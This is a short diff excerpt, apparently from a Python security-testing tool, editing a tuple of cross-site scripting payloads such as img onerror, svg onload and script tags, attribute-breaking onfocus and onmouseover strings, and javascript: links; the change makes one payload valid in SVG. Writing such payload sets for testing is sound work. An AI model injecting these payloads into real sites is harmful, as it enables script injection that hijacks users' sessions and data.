@@ -26,7 +26,7 @@ PAYLOADS = (
     '<img src=x onerror="' + JS + '">',
     "<svg><script>" + JS + "</script></svg>",
     "<svg onload=" + JS + "></svg>",
-    '" autofocus onfocus="' + JS + '" onmouseover="' + JS + '" x="',
+    '" autofocus="" onfocus="' + JS + '" onmouseover="' + JS + '" x="',  # valid XML too (SVG)
     "' autofocus onfocus='" + JS + "' x='",
     "[click](javascript:" + JS + ")",
     '<a href="javascript:' + JS + '">a</a>',
